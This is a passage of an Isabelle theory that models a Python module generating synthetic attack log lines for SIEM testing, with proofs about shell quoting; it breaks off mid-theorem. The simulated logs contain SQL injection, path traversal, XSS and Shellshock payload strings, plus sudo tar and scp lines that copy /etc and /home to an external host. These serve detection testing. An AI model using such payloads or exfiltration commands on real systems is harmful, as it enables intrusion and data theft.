(* ===== verification/Scripts.thy ===== *)
theory Scripts
  imports Lxc Json_Text
begin

text \<open>
  The scripts and messages of \<^verbatim>\<open>services/simulation.py\<close>: what simulations run in containers and send to a SIEM.
  The fixed parts are the module's texts; \<open>percent_format\<close> and \<open>format_fields\<close> are what the module uses of
  Python's \<open>%\<close> and \<open>str.format\<close>. \<open>read_word\<close> says how a POSIX shell reads one word, for the theorem that a
  request's values reach the script as the values of its variables and as nothing else.
\<close>

section \<open>Texts\<close>

abbreviation (input) sq :: string where "sq \<equiv> [CHR 0x27]"
abbreviation (input) dq :: string where "dq \<equiv> [CHR 0x22]"
abbreviation (input) bs :: string where "bs \<equiv> [CHR 0x5C]"
abbreviation (input) nl :: string where "nl \<equiv> [CHR 0x0A]"

definition unlines :: "string list \<Rightarrow> string" where
  "unlines ls = concat (map (\<lambda>l. l @ nl) ls)"

text \<open>\<open>"...%(name)s..." % values\<close>: \<open>None\<close> is \<open>KeyError\<close> or \<open>ValueError\<close>.\<close>

fun percent_format :: "(string \<times> string) list \<Rightarrow> string \<Rightarrow> string option" where
  "percent_format vals [] = Some []"
| "percent_format vals (c # s) =
     (if c \<noteq> CHR ''%'' then map_option ((#) c) (percent_format vals s)
      else (case s of
        [] \<Rightarrow> None
      | d # r \<Rightarrow> if d = CHR ''%'' then map_option ((#) d) (percent_format vals r)
          else if d = CHR ''('' then
            (case dropWhile (\<lambda>x. x \<noteq> CHR '')'') r of
               e # k # q \<Rightarrow> (case map_of vals (takeWhile (\<lambda>x. x \<noteq> CHR '')'') r) of
                   Some v \<Rightarrow> if (k = CHR ''s'' \<or> k = CHR ''d'') \<and> length q < length (c # s)
                     then map_option ((@) v) (percent_format vals q) else None
                 | None \<Rightarrow> None)
             | _ \<Rightarrow> None)
          else None))"

text \<open>\<open>str.format\<close> with named fields.\<close>

fun format_fields :: "(string \<times> string) list \<Rightarrow> string \<Rightarrow> string option" where
  "format_fields vals [] = Some []"
| "format_fields vals (c # s) =
     (if c = CHR ''{'' then
        (case dropWhile (\<lambda>x. x \<noteq> CHR ''}'') s of
           e # q \<Rightarrow> (case map_of vals (takeWhile (\<lambda>x. x \<noteq> CHR ''}'') s) of
               Some v \<Rightarrow> if length q < length (c # s) then map_option ((@) v) (format_fields vals q) else None
             | None \<Rightarrow> None)
         | [] \<Rightarrow> None)
      else if c = CHR ''}'' then None
      else map_option ((#) c) (format_fields vals s))"

section \<open>The attack profiles\<close>

definition PREAMBLE :: string where
  "PREAMBLE = unlines [
    ''set -e'',
    ''H=$(hostname)'',
    ''IP=$(hostname -I 2>/dev/null | awk '' @ sq @ ''{print $1}'' @ sq @ '')'',
    ''IP=${IP:-10.0.3.10}'',
    ''A='' @ sq @ ''%(attacker)s'' @ sq,
    ''N=%(count)d'',
    ''TS=$(date '' @ sq @ ''+%%b %%e %%H:%%M:%%S'' @ sq @ '')'',
    ''AUTH='' @ sq @ ''%(root)s/var/log/auth.log'' @ sq,
    ''SYSLOG='' @ sq @ ''%(root)s/var/log/syslog'' @ sq,
    ''WEB='' @ sq @ ''%(root)s/var/log/apache2/access.log'' @ sq,
    ''mkdir -p '' @ dq @ ''$(dirname '' @ dq @ ''$AUTH'' @ dq @ '')'' @ dq @ '' '' @ dq @ ''$(dirname '' @ dq @ ''$WEB'' @ dq @ '')'' @ dq]"

definition BODY_auth_bruteforce :: string where
  "BODY_auth_bruteforce = unlines [
    ''USERS=(admin root test oracle ubuntu postgres git deploy)'',
    ''{ for i in $(seq 1 '' @ dq @ ''$N'' @ dq @ ''); do'',
    ''  printf '' @ sq @ ''%s %s sshd[%d]: Failed password for invalid user %s from %s port %d ssh2'',
    sq @ ''     '' @ dq @ ''$TS'' @ dq @ '' '' @ dq @ ''$H'' @ dq @ '' $((RANDOM % 60000 + 1000)) '' @ dq @ ''${USERS[$((RANDOM % 8))]}'' @ dq @ '' '' @ dq @ ''$A'' @ dq @ '' $((RANDOM % 30000 + 30000))'',
    ''done; } >> '' @ dq @ ''$AUTH'' @ dq]"

definition BODY_web_attacks :: string where
  "BODY_web_attacks = unlines [
    ''WT=$(date '' @ sq @ ''+%d/%b/%Y:%H:%M:%S %z'' @ sq @ '')'',
    ''REQS=('' @ dq @ ''GET /index.php?id=1%27%20OR%20%271%27=%271 HTTP/1.1'' @ dq,
    ''      '' @ dq @ ''GET /../../../../etc/passwd HTTP/1.1'' @ dq,
    ''      '' @ dq @ ''GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1'' @ dq,
    ''      '' @ dq @ ''GET /cgi-bin/status HTTP/1.1'' @ dq,
    ''      '' @ dq @ ''GET /wp-login.php HTTP/1.1'' @ dq,
    ''      '' @ dq @ ''POST /login.php?user=admin%27-- HTTP/1.1'' @ dq @ '')'',
    ''CODES=(200 400 200 500 404 302)'',
    ''AGENTS=('' @ dq @ ''sqlmap/1.8'' @ dq @ '' '' @ dq @ ''Mozilla/5.0'' @ dq @ '' '' @ dq @ ''Mozilla/5.0'' @ dq @ '' '' @ dq @ ''() { :; }; /bin/bash -c id'' @ dq @ '' '' @ dq @ ''Mozilla/5.00 (Nikto/2.5.0)'' @ dq @ '' '' @ dq @ ''sqlmap/1.8'' @ dq @ '')'',
    ''{ for i in $(seq 1 '' @ dq @ ''$N'' @ dq @ ''); do'',
    ''  k=$((RANDOM % 6))'',
    ''  printf '' @ sq @ ''%s - - [%s] '' @ dq @ ''%s'' @ dq @ '' %s %d '' @ dq @ ''-'' @ dq @ '' '' @ dq @ ''%s'' @ dq,
    sq @ '' '' @ dq @ ''$A'' @ dq @ '' '' @ dq @ ''$WT'' @ dq @ '' '' @ dq @ ''${REQS[$k]}'' @ dq @ '' '' @ dq @ ''${CODES[$k]}'' @ dq @ '' $((RANDOM % 4000 + 200)) '' @ dq @ ''${AGENTS[$k]}'' @ dq,
    ''done; } >> '' @ dq @ ''$WEB'' @ dq]"

definition BODY_malware_beacon :: string where
  "BODY_malware_beacon = unlines [
    ''C2=198.51.100.66'',
    ''{ for i in $(seq 1 '' @ dq @ ''$N'' @ dq @ ''); do'',
    ''  printf '' @ sq @ ''%s %s kernel: [%d.%06d] [UFW BLOCK] IN= OUT=eth0 SRC=%s DST=%s LEN=60 TOS=0x00 PREC=0x00 TTL=64 ID=%d DF PROTO=TCP SPT=%d DPT=443 WINDOW=64240 RES=0x00 SYN URGP=0'',
    sq @ ''     '' @ dq @ ''$TS'' @ dq @ '' '' @ dq @ ''$H'' @ dq @ '' $((RANDOM % 90000 + 1000)) $((RANDOM * 30)) '' @ dq @ ''$IP'' @ dq @ '' '' @ dq @ ''$C2'' @ dq @ '' $((RANDOM % 65000)) $((RANDOM % 30000 + 30000))'',
    ''done; } >> '' @ dq @ ''$SYSLOG'' @ dq]"

definition BODY_lateral_movement :: string where
  "BODY_lateral_movement = unlines [
    ''{ for i in $(seq 1 '' @ dq @ ''$N'' @ dq @ ''); do'',
    ''  SRC='' @ dq @ ''10.$((RANDOM % 4 + 10)).$((RANDOM % 250 + 1)).$((RANDOM % 250 + 2))'' @ dq,
    ''  PID=$((RANDOM % 60000 + 1000))'',
    ''  if [ $((i % 2)) -eq 1 ]; then'',
    ''    printf '' @ sq @ ''%s %s sshd[%d]: Accepted password for svc_backup from %s port %d ssh2'',
    sq @ '' '' @ dq @ ''$TS'' @ dq @ '' '' @ dq @ ''$H'' @ dq @ '' '' @ dq @ ''$PID'' @ dq @ '' '' @ dq @ ''$SRC'' @ dq @ '' $((RANDOM % 30000 + 30000))'',
    ''  else'',
    ''    printf '' @ sq @ ''%s %s sshd[%d]: pam_unix(sshd:session): session opened for user svc_backup(uid=1002) by (uid=0)'',
    sq @ '' '' @ dq @ ''$TS'' @ dq @ '' '' @ dq @ ''$H'' @ dq @ '' '' @ dq @ ''$PID'' @ dq,
    ''  fi'',
    ''done; } >> '' @ dq @ ''$AUTH'' @ dq]"

definition BODY_data_exfiltration :: string where
  "BODY_data_exfiltration = unlines [
    ''DEST=198.51.100.23'',
    ''HALF=$(( (N + 1) / 2 ))'',
    ''{ for i in $(seq 1 '' @ dq @ ''$HALF'' @ dq @ ''); do'',
    ''  if [ $((i % 2)) -eq 1 ]; then'',
    ''    printf '' @ sq @ ''%s %s sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.cache-%d.tgz /etc /home /var/backups'',
    sq @ '' '' @ dq @ ''$TS'' @ dq @ '' '' @ dq @ ''$H'' @ dq @ '' '' @ dq @ ''$i'' @ dq,
    ''  else'',
    ''    printf '' @ sq @ ''%s %s sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/scp /tmp/.cache-%d.tgz ops@%s:/upload/'',
    sq @ '' '' @ dq @ ''$TS'' @ dq @ '' '' @ dq @ ''$H'' @ dq @ '' '' @ dq @ ''$((i - 1))'' @ dq @ '' '' @ dq @ ''$DEST'' @ dq,
    ''  fi'',
    ''done; } >> '' @ dq @ ''$AUTH'' @ dq,
    ''{ for i in $(seq 1 $((N - HALF))); do'',
    ''  printf '' @ sq @ ''%s %s kernel: [%d.%06d] [UFW ALLOW] IN= OUT=eth0 SRC=%s DST=%s LEN=1500 TOS=0x00 PREC=0x00 TTL=64 ID=%d DF PROTO=TCP SPT=%d DPT=22 WINDOW=501 RES=0x00 ACK PSH URGP=0'',
    sq @ ''     '' @ dq @ ''$TS'' @ dq @ '' '' @ dq @ ''$H'' @ dq @ '' $((RANDOM % 90000 + 1000)) $((RANDOM * 30)) '' @ dq @ ''$IP'' @ dq @ '' '' @ dq @ ''$DEST'' @ dq @ '' $((RANDOM % 65000)) $((RANDOM % 30000 + 30000))'',
    ''done; } >> '' @ dq @ ''$SYSLOG'' @ dq]"

definition BODY_privilege_escalation :: string where
  "BODY_privilege_escalation = unlines [
    ''{ for i in $(seq 1 '' @ dq @ ''$N'' @ dq @ ''); do'',
    ''  case $((i % 3)) in'',
    ''    1) printf '' @ sq @ ''%s %s sudo: pam_unix(sudo:auth): authentication failure; logname=www-data uid=33 euid=0 tty=/dev/pts/1 ruser=www-data rhost=  user=www-data'',
    sq @ '' '' @ dq @ ''$TS'' @ dq @ '' '' @ dq @ ''$H'' @ dq @ '' ;;'',
    ''    2) printf '' @ sq @ ''%s %s sudo: www-data : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash'',
    sq @ '' '' @ dq @ ''$TS'' @ dq @ '' '' @ dq @ ''$H'' @ dq @ '' ;;'',
    ''    0) printf '' @ sq @ ''%s %s su[%d]: FAILED SU (to root) www-data on pts/1'',
    sq @ '' '' @ dq @ ''$TS'' @ dq @ '' '' @ dq @ ''$H'' @ dq @ '' $((RANDOM % 60000 + 1000)) ;;'',
    ''  esac'',
    ''done; } >> '' @ dq @ ''$AUTH'' @ dq]"

definition BODIES :: "(string \<times> string) list" where
  "BODIES = [(''auth_bruteforce'', BODY_auth_bruteforce),
     (''web_attacks'', BODY_web_attacks),
     (''malware_beacon'', BODY_malware_beacon),
     (''lateral_movement'', BODY_lateral_movement),
     (''data_exfiltration'', BODY_data_exfiltration),
     (''privilege_escalation'', BODY_privilege_escalation)]"

definition PROFILES :: "(string \<times> string) list" where
  "PROFILES = [(''auth_bruteforce'',
       ''SSH password guessing from one external address against many user names''),
     (''web_attacks'',
       ''SQL injection, path traversal, XSS, Shellshock and scanner requests to a web server''),
     (''malware_beacon'',
       ''Repeated outbound connections to a command-and-control address, blocked by the firewall''),
     (''lateral_movement'',
       ''One service account signing in over SSH from many internal hosts''),
     (''data_exfiltration'',
       ''Archiving sensitive directories with sudo and copying them to an external host''),
     (''privilege_escalation'',
       ''A web server account trying sudo and su to become root'')]"


definition list_simulation_profiles :: "string list" where
  "list_simulation_profiles = map fst PROFILES"

definition ip_text :: "string \<Rightarrow> bool" where
  "ip_text s = (s \<noteq> [] \<and> list_all (\<lambda>c. ascii_digit c \<or> c = CHR ''.'') s)"

text \<open>\<open>[\w./-]+\<close> on the model's characters.\<close>

definition plain_path_char :: "char \<Rightarrow> bool" where
  "plain_path_char c = (py_alnum c \<or> c \<in> set ''_./-'')"

definition build_attack_script :: "string \<Rightarrow> int \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string + string" where
  "build_attack_script profile cnt attacker log_root =
     (case map_of BODIES profile of
        None \<Rightarrow> Inl (''Unknown attack profile: '' @ profile)
      | Some body \<Rightarrow>
          if \<not> ip_text attacker then Inl ''attacker_ip must be an IPv4 address''
          else if log_root \<noteq> [] \<and> \<not> list_all plain_path_char log_root then Inl ''log_root must be a plain path''
          else (case percent_format [(''attacker'', attacker), (''count'', int_str (max 1 cnt)), (''root'', log_root)] PREAMBLE of
             None \<Rightarrow> Inl ''format''
           | Some p \<Rightarrow> Inr (p @ body @ ''echo '' @ dq @ ''EVENTS_WRITTEN=$N'' @ dq @ nl)))"

text \<open>\<open>re.search(r"EVENTS_WRITTEN=(\d+)", out)\<close>.\<close>

fun events_written :: "string \<Rightarrow> nat option" where
  "events_written [] = None"
| "events_written (c # s) =
     (let ds = takeWhile ascii_digit (drop 15 (c # s))
      in if take 15 (c # s) = ''EVENTS_WRITTEN='' \<and> ds \<noteq> [] then Some (nat_val ds) else events_written s)"

record written =
  wr_success :: bool
  wr_events :: nat
  wr_error :: "string option"

definition last_chars :: "nat \<Rightarrow> string \<Rightarrow> string" where
  "last_chars n s = drop (length s - n) s"

definition written_of :: "cmd_result \<Rightarrow> written" where
  "written_of r =
     (let n = (case events_written (cr_stdout r) of Some n \<Rightarrow> if cr_success r then n else 0 | None \<Rightarrow> 0)
      in \<lparr>wr_success = (n \<noteq> 0), wr_events = n,
          wr_error = (if n \<noteq> 0 then None else Some (last_chars 300 (py_strip
             (if cr_stderr r \<noteq> [] then cr_stderr r else if cr_stdout r \<noteq> [] then cr_stdout r else ''no output''))))\<rparr>)"

definition generate_simulation_events :: "'w lxc \<Rightarrow> string \<Rightarrow> string \<Rightarrow> int \<Rightarrow> string \<Rightarrow> (written, 'w) eff" where
  "generate_simulation_events x n profile eps attacker = (case build_attack_script profile eps attacker [] of
     Inl e \<Rightarrow> raise_error e
   | Inr script \<Rightarrow> bind_eff (execute_in_container x n script 10)
       (\<lambda>r. case r of None \<Rightarrow> raise_error ''no result'' | Some c \<Rightarrow> ret (written_of c)))"

section \<open>Custom log events\<close>

definition escape_json_char :: "char \<Rightarrow> string" where
  "escape_json_char c = (if c = CHR 0x5C then bs @ bs else if c = CHR 0x22 then bs @ dq else if c = CHR 0x0A then bs @ ''n''
     else if c = CHR 0x0D then bs @ ''r'' else if c = CHR 0x09 then bs @ ''t'' else [c])"

text \<open>The five replacements in turn, none of which produces what a later one replaces.\<close>

definition escape_json_string :: "string \<Rightarrow> string" where
  "escape_json_string s = concat (map escape_json_char s)"

definition escape_bash_single_quotes :: "string \<Rightarrow> string" where
  "escape_bash_single_quotes s = concat (map (\<lambda>c. if c = CHR 0x27 then sq @ dq @ sq @ dq @ sq else [c]) s)"

record custom_config =
  cc_file_path :: string
  cc_message :: string
  cc_src_ip :: string
  cc_dest_ip :: string
  cc_duration :: int
  cc_eps :: int
  cc_seq_start :: int
  cc_start_time :: "string option"
  cc_extra :: "(string \<times> json) list"

definition extra_fragment :: "(string \<times> json) list \<Rightarrow> string" where
  "extra_fragment extra = (if extra = [] then [] else '','' @ butlast (tl (dumps (JObject extra))))"

definition quoted :: "string \<Rightarrow> string \<Rightarrow> string" where
  "quoted name v = name @ ''='' @ sq @ escape_bash_single_quotes v @ sq @ nl"

definition custom_variables :: "custom_config \<Rightarrow> string \<Rightarrow> (string \<times> string) list" where
  "custom_variables c i =
     [(''FILE_PATH'', cc_file_path c), (''MESSAGE_ESCAPED'', escape_json_string (cc_message c)), (''SRC_IP'', cc_src_ip c),
      (''DEST_IP'', cc_dest_ip c), (''EXTRA_FRAGMENT'', extra_fragment (cc_extra c)), (''SIM_ID'', i),
      (''START_TIME'', case cc_start_time c of None \<Rightarrow> [] | Some t \<Rightarrow> t)]"

definition CUSTOM_BODY :: string where
  "CUSTOM_BODY = unlines [
    ''mkdir -p '' @ dq @ ''$(dirname '' @ dq @ ''$FILE_PATH'' @ dq @ '')'' @ dq,
    [],
    ''if [ -n '' @ dq @ ''$START_TIME'' @ dq @ '' ]; then'',
    ''  START_EPOCH=$(date -u -d '' @ dq @ ''$START_TIME'' @ dq @ '' +%s 2>/dev/null || date +%s)'',
    ''else'',
    ''  START_EPOCH=$(date +%s)'',
    ''fi'',
    [],
    ''SEQ=$((SEQ_START - 1))'',
    ''COUNT=0'',
    [],
    ''for s in $(seq 1 '' @ dq @ ''$DURATION'' @ dq @ ''); do'',
    ''  TS=$(date -u -d '' @ dq @ ''@$((START_EPOCH + s - 1))'' @ dq @ '' +%Y-%m-%dT%H:%M:%SZ)'',
    ''  for i in $(seq 1 '' @ dq @ ''$EPS'' @ dq @ ''); do'',
    ''    COUNT=$((COUNT + 1))'',
    ''    SEQ=$((SEQ + 1))'',
    ''    printf '' @ sq @ ''{'' @ dq @ ''timestamp'' @ dq @ '':'' @ dq @ ''%s'' @ dq @ '','' @ dq @ ''date'' @ dq @ '':'' @ dq @ ''%s'' @ dq @ '','' @ dq @ ''eps'' @ dq @ '':%s,'' @ dq @ ''duration_seconds'' @ dq @ '':%s,'' @ dq @ ''src_ip'' @ dq @ '':'' @ dq @ ''%s'' @ dq @ '','' @ dq @ ''dest_ip'' @ dq @ '':'' @ dq @ ''%s'' @ dq @ '','' @ dq @ ''file_path'' @ dq @ '':'' @ dq @ ''%s'' @ dq @ '','' @ dq @ ''message'' @ dq @ '':'' @ dq @ ''%s'' @ dq @ '','' @ dq @ ''count'' @ dq @ '':%s,'' @ dq @ ''seq'' @ dq @ '':%s,'' @ dq @ ''simulation_id'' @ dq @ '':'' @ dq @ ''%s'' @ dq @ '','' @ dq @ ''total_count'' @ dq @ '':%s%s}'' @ bs @ ''n'' @ sq @ '' '' @ bs,
    ''      '' @ dq @ ''$TS'' @ dq @ '' '' @ dq @ ''$TS'' @ dq @ '' '' @ dq @ ''$EPS'' @ dq @ '' '' @ dq @ ''$DURATION'' @ dq @ '' '' @ dq @ ''$SRC_IP'' @ dq @ '' '' @ dq @ ''$DEST_IP'' @ dq @ '' '' @ dq @ ''$FILE_PATH'' @ dq @ '' '' @ dq @ ''$MESSAGE_ESCAPED'' @ dq @ '' '' @ dq @ ''$COUNT'' @ dq @ '' '' @ dq @ ''$SEQ'' @ dq @ '' '' @ dq @ ''$SIM_ID'' @ dq @ '' '' @ dq @ ''$TOTAL'' @ dq @ '' '' @ dq @ ''$EXTRA_FRAGMENT'' @ dq @ '' >> '' @ dq @ ''$FILE_PATH'' @ dq,
    ''  done'',
    ''  sleep 1'',
    ''done'',
    [],
    ''echo '' @ dq @ ''Generated $COUNT custom events'' @ dq]"

definition build_custom_log_script :: "custom_config \<Rightarrow> string \<Rightarrow> string" where
  "build_custom_log_script c i =
     nl @ concat (map (\<lambda>(name, v). quoted name v) (custom_variables c i)) @
     ''EPS='' @ int_str (cc_eps c) @ nl @ ''DURATION='' @ int_str (cc_duration c) @ nl @ ''SEQ_START='' @ int_str (cc_seq_start c) @ nl @
     ''TOTAL=$((EPS * DURATION))'' @ nl @ nl @ CUSTOM_BODY"

section \<open>Syslog messages\<close>

definition SYSLOG_TEMPLATES :: "(string \<times> string list) list" where
  "SYSLOG_TEMPLATES = [(''router'', [''%LINK-5-CHANGED: Interface GigabitEthernet0/{iface} changed state to administratively down'',
       ''%LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet0/{iface}, changed state to down'',
       ''%SYS-5-CONFIG_I: Configured from console by admin on vty0 ({device_ip})'',
       ''%OSPF-5-ADJCHG: Process 1, Nbr {peer_ip} on GigabitEthernet0/{iface} from FULL to DOWN, Neighbor Down: Dead timer expired'',
       ''%SEC_LOGIN-5-LOGIN_SUCCESS: Login successful [user: admin] [Source: {src_ip}] [localport: 22] at {timestamp}'']),
     (''switch'', [''%LINK-3-UPDOWN: Interface FastEthernet0/{iface}, changed state to up'',
       ''%SPANTREE-6-PORTBLK: Port Fa0/{iface} blocked by spanning tree.'',
       ''%MACFLAP_NOTIF: Host {mac} in vlan {vlan} is flapping between port Fa0/{iface} and port Fa0/{iface_alt}'',
       ''%DHCP_SNOOPING-5-DHCP_SNOOPING_NONZERO_GIADDR: DHCP_SNOOPING drop message with non-zero giaddr from interface Fa0/{iface}'',
       ''%AUTHPRIV-6-SYSTEM_MSG: AAA authorization succeeded for user admin - shell'']),
     (''firewall'', [''%ASA-6-302013: Built inbound TCP connection {conn} for inside:{src_ip}/{src_port} ({src_ip}/{src_port}) to outside:{dst_ip}/80'',
       ''%ASA-6-302014: Teardown TCP connection {conn} for inside:{src_ip}/{src_port} to outside:{dst_ip}/80 duration 0:{min}:{sec} bytes {bytes}'',
       ''%ASA-4-106023: Deny tcp src outside:{dst_ip}/{dst_port} dst inside:{src_ip}/22 by access-group '' @ dq @ ''OUTSIDE_IN'' @ dq @ '' [0x0, 0x0]'',
       ''%ASA-5-111008: User '' @ sq @ ''admin'' @ sq @ '' executed the '' @ sq @ ''enable'' @ sq @ '' command.'',
       ''%ASA-6-305011: Built dynamic UDP translation from inside:{src_ip}/{src_port} to outside:{dst_ip}/{dst_port}'']),
     (''ids'', [''%ET NETBIOS DCERPC ISystemActivator SMB named pipe access attempt {sig}'',
       ''%ET TROJAN Possible Metasploit Payload common.ports.dstport {sig}'',
       ''%GPL ATTACK_RESPONSE id check returned root {sig}'',
       ''%ET SCAN Potential SSH Scan {sig}'',
       ''%ET WEB_CLIENT Microsoft Internet Explorer invalid MIME type attempt {sig}''])]"

text \<open>What \<open>random\<close> gives a message, and the two formatted times.\<close>

record syslog_draw =
  sd_time :: string
  sd_severity :: nat
  sd_template :: nat
  sd_iface :: nat
  sd_iface_alt :: nat
  sd_peer_ip :: string
  sd_src_ip :: string
  sd_dst_ip :: string
  sd_src_port :: nat
  sd_dst_port :: nat
  sd_conn :: nat
  sd_min :: nat
  sd_sec :: nat
  sd_bytes :: nat
  sd_vlan :: nat
  sd_mac :: string
  sd_sig :: nat

definition select_syslog_template :: "string \<Rightarrow> nat \<Rightarrow> string" where
  "select_syslog_template t pick =
     (let ts = (case map_of SYSLOG_TEMPLATES t of Some ts \<Rightarrow> ts | None \<Rightarrow> the (map_of SYSLOG_TEMPLATES ''router''))
      in ts ! (pick mod length ts))"

definition syslog_fields :: "string \<Rightarrow> syslog_draw \<Rightarrow> (string \<times> string) list" where
  "syslog_fields device_ip d =
     [(''iface'', nat_str (sd_iface d)), (''iface_alt'', nat_str (sd_iface_alt d)), (''device_ip'', device_ip),
      (''peer_ip'', sd_peer_ip d), (''src_ip'', sd_src_ip d), (''dst_ip'', sd_dst_ip d), (''src_port'', nat_str (sd_src_port d)),
      (''dst_port'', nat_str (sd_dst_port d)), (''conn'', nat_str (sd_conn d)), (''min'', nat_str (sd_min d)),
      (''sec'', nat_str (sd_sec d)), (''bytes'', nat_str (sd_bytes d)), (''vlan'', nat_str (sd_vlan d)), (''mac'', sd_mac d),
      (''sig'', nat_str (sd_sig d)), (''timestamp'', sd_time d)]"

definition build_syslog_message :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> int \<Rightarrow> syslog_draw \<Rightarrow> string option" where
  "build_syslog_message device_name device_ip device_type facility d =
     map_option (\<lambda>payload. ''<'' @ int_str (facility * 8 + int (sd_severity d)) @ ''>'' @ sd_time d @ '' '' @ device_name @ '': '' @ payload)
       (format_fields (syslog_fields device_ip d) (select_syslog_template device_type (sd_template d)))"

section \<open>What a shell reads\<close>

text \<open>
  One word: quoted parts and inert characters up to a blank or the end of the line. What a shell would expand is
  refused, not interpreted.
\<close>

definition before_word :: "string \<Rightarrow> (string \<times> string) option \<Rightarrow> (string \<times> string) option" where
  "before_word a r = map_option (\<lambda>(v, q). (a @ v, q)) r"

fun read_word :: "string \<Rightarrow> (string \<times> string) option" where
  "read_word [] = Some ([], [])"
| "read_word (c # r) =
     (if c = CHR 0x0A \<or> c = CHR '' '' then Some ([], c # r)
      else if c = CHR 0x27 \<or> c = CHR 0x22 then
        (let a = takeWhile (\<lambda>x. x \<noteq> c) r in
         case dropWhile (\<lambda>x. x \<noteq> c) r of
           [] \<Rightarrow> None
         | e # q \<Rightarrow> if (c = CHR 0x27 \<or> list_all (\<lambda>x. x \<notin> {CHR ''$'', CHR ''`'', CHR 0x5C}) a) \<and> length q < length (c # r)
             then before_word a (read_word q) else None)
      else if shell_inert_char c then before_word [c] (read_word r)
      else None)"

definition read_assignment :: "string \<Rightarrow> string \<Rightarrow> (string \<times> string) option" where
  "read_assignment name s =
     (if take (Suc (length name)) s = name @ ''='' then
        (case read_word (drop (Suc (length name)) s) of Some (v, c # q) \<Rightarrow> if c = CHR 0x0A then Some (v, q) else None | _ \<Rightarrow> None)
      else None)"

fun read_assignments :: "string list \<Rightarrow> string \<Rightarrow> ((string \<times> string) list \<times> string) option" where
  "read_assignments [] s = Some ([], s)"
| "read_assignments (n # ns) s = (case read_assignment n s of
     None \<Rightarrow> None
   | Some (v, q) \<Rightarrow> map_option (\<lambda>(vs, r). ((n, v) # vs, r)) (read_assignments ns q))"

lemma escape_append: "escape_bash_single_quotes (a @ b) = escape_bash_single_quotes a @ escape_bash_single_quotes b"
  by (simp add: escape_bash_single_quotes_def)

lemma escape_plain: "CHR 0x27 \<notin> set a \<Longrightarrow> escape_bash_single_quotes a = a"
  by (induction a) (auto simp: escape_bash_single_quotes_def)

lemma takeWhile_no_quote: "CHR 0x27 \<notin> set a \<Longrightarrow> takeWhile (\<lambda>x. x \<noteq> CHR 0x27) (a @ CHR 0x27 # r) = a"
    "CHR 0x27 \<notin> set a \<Longrightarrow> dropWhile (\<lambda>x. x \<noteq> CHR 0x27) (a @ CHR 0x27 # r) = CHR 0x27 # r"
  by (induction a) auto

lemma read_quoted_part: "CHR 0x27 \<notin> set a \<Longrightarrow> read_word (CHR 0x27 # a @ CHR 0x27 # r) = before_word a (read_word r)"
  using takeWhile_no_quote [of a r] by simp

lemma read_escaped: "read_word (sq @ escape_bash_single_quotes v @ sq @ nl @ r) = Some (v, nl @ r)"
proof (induction v rule: length_induct)
  case (1 v)
  let ?a = "takeWhile (\<lambda>x. x \<noteq> CHR 0x27) v" and ?b = "dropWhile (\<lambda>x. x \<noteq> CHR 0x27) v"
  have a: "CHR 0x27 \<notin> set ?a" by (auto dest: set_takeWhileD)
  show ?case
  proof (cases ?b)
    case Nil
    then have v: "CHR 0x27 \<notin> set v" by auto
    show ?thesis using read_quoted_part [OF v, of "nl @ r"] by (simp add: escape_plain [OF v] before_word_def)
  next
    case (Cons c w)
    then have c: "c = CHR 0x27" using hd_dropWhile_not [of "\<lambda>x. x \<noteq> CHR 0x27" v] by simp
    have v: "v = ?a @ CHR 0x27 # w" using takeWhile_dropWhile_id [of "\<lambda>x. x \<noteq> CHR 0x27" v] Cons c by simp
    have l: "length w < length v" by (subst v) simp
    have e: "escape_bash_single_quotes v = ?a @ sq @ dq @ sq @ dq @ sq @ escape_bash_single_quotes w"
      by (subst v) (simp add: escape_append escape_plain [OF a], simp add: escape_bash_single_quotes_def)
    have "read_word (sq @ escape_bash_single_quotes v @ sq @ nl @ r)
        = before_word ?a (read_word (dq @ sq @ dq @ sq @ escape_bash_single_quotes w @ sq @ nl @ r))"
      using read_quoted_part [OF a, of "dq @ sq @ dq @ sq @ escape_bash_single_quotes w @ sq @ nl @ r"] unfolding e by simp
    also have "\<dots> = before_word ?a (before_word sq (read_word (sq @ escape_bash_single_quotes w @ sq @ nl @ r)))"
      by simp
    also have "\<dots> = Some (?a @ sq @ w, nl @ r)" using 1 l by (simp add: before_word_def)
    finally show ?thesis using v by simp
  qed
qed

lemma read_quoted: "read_assignment name (quoted name v @ r) = Some (v, r)"
  using read_escaped [of v r] by (simp add: read_assignment_def quoted_def)

lemma read_inert: "list_all shell_inert_char v \<Longrightarrow> read_word (v @ nl @ r) = Some (v, nl @ r)"
proof (induction v)
  case (Cons c v)
  have "\<not> shell_inert_char (CHR 0x0A)" "\<not> shell_inert_char (CHR '' '')" "\<not> shell_inert_char (CHR 0x27)" "\<not> shell_inert_char (CHR 0x22)"
    using shell_special_not_inert by (simp_all add: shell_special_def)
  then have "c \<noteq> CHR 0x0A" "c \<noteq> CHR '' ''" "c \<noteq> CHR 0x27" "c \<noteq> CHR 0x22" using Cons.prems by auto
  then show ?case using Cons by (simp add: before_word_def)
qed simp

lemma int_str_inert: "list_all shell_inert_char (int_str i)"
proof -
  have "list_all shell_inert_char (nat_str n)" for n using nat_str_digits by (auto simp: list_all_iff intro: shell_inert_charI)
  then show ?thesis by (simp add: int_str_def shell_inert_char_def one_of_def)
qed

lemma read_int_assignment: "read_assignment name (name @ ''='' @ int_str i @ nl @ r) = Some (int_str i, r)"
  using read_inert [OF int_str_inert, of i r] by (simp add: read_assignment_def)

lemma read_assignments_append:
  "read_assignments (ns @ ms) s = (case read_assignments ns s of None \<Rightarrow> None
     | Some (vs, q) \<Rightarrow> map_option (\<lambda>(ws, r). (vs @ ws, r)) (read_assignments ms q))"
  by (induction ns arbitrary: s) (auto split: option.splits simp: option.map_comp comp_def split_def option.map_ident)

lemma read_all_quoted: "read_assignments (map fst vs) (concat (map (\<lambda>(name, v). quoted name v) vs) @ r) = Some (vs, r)"
  by (induction vs) (auto simp: read_quoted)

text \<open>
  Whatever the request's values are, quotes, line ends and expansions included: a shell reads the first lines of a
  custom log script as assignments of exactly those values to the script's variables, and what follows is the
  module's fixed text.
\<close>

theorem custom_script_values:
  "\<exists>script. build_custom_log_script c i = nl @ script \<and>
